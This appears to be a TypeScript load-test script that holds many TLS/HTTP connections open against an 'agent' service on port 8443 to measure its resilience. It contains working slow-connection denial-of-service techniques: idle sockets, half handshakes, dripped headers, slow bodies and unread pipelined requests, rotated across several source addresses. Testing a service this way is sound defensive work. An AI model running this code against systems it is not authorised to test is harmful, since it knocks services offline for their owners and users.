// Loads an agent with connections until it is killed. A process of its own, so that it does not slow down measurements.
//   node --import tsx attack-load.ts HOST KIND COUNT TOKEN ADDRESS...
// Prints "ready" after it has begun each connection.
import net from 'node:net';
import { setPriority } from 'node:os';
import tls from 'node:tls';

const [host = '', kind = '', count = '0', token = '', ...addresses] = process.argv.slice(2);
const port = 8443;
const dripMs = 2000;
const reopenAfterMs = 3000;
// A limit in case nobody kills it.
const maxMs = 5 * 60_000;

type Attack = (socket: net.Socket) => void;

function secure(socket: net.Socket, then: (secured: tls.TLSSocket) => void): void {
  const secured = tls.connect({ socket, rejectUnauthorized: false });
  secured.on('error', () => undefined);
  secured.once('secureConnect', () => {
    then(secured);
  });
}

function drip(socket: tls.TLSSocket, text: string): void {
  const timer = setInterval(() => socket.write(text), dripMs);
  socket.resume().once('close', () => {
    clearInterval(timer);
  });
}

const unauthenticated: Attack[] = [
  // Idle.
  () => undefined,
  // Half of a handshake: the head of a record without the record.
  (socket) => {
    socket.write(Buffer.from('160301020001', 'hex'));
  },
  // Slow headers.
  (socket) => {
    secure(socket, (secured) => {
      secured.write('GET / HTTP/1.1\r\nHost: x\r\n');
      drip(secured, 'X: x\r\n');
    });
  },
  // A slow body.
  (socket) => {
    secure(socket, (secured) => {
      secured.write('POST /healthz HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n');
      drip(secured, 'x');
    });
  },
];

const unread: Attack = (socket) => {
  secure(socket, (secured) => {
    secured.pause();
    const path = '/api/v2/system/ha/configuration';
    secured.write(`GET ${path} HTTP/1.1\r\nHost: x\r\ntoken: ${token}\r\n\r\n`.repeat(100));
  });
};

function keep(index: number): void {
  const socket = net.connect({ host, port, localAddress: addresses[index % addresses.length] });
  socket.on('error', () => undefined);
  socket.once('close', () => setTimeout(keep, reopenAfterMs, index));
  const attack =
    kind === 'unread'
      ? unread
      : (unauthenticated[Math.floor(index / addresses.length) % unauthenticated.length] as Attack);
  socket.once('connect', () => {
    attack(socket);
  });
}

setTimeout(() => process.exit(), maxMs);
// Attackers on other machines would leave the agent its processor.
setPriority(19);
for (let index = 0; index < Number(count); index += 1) {
  keep(index);
  if (index % 50 === 49) await new Promise((resolve) => setTimeout(resolve, 20));
}
console.log('ready');
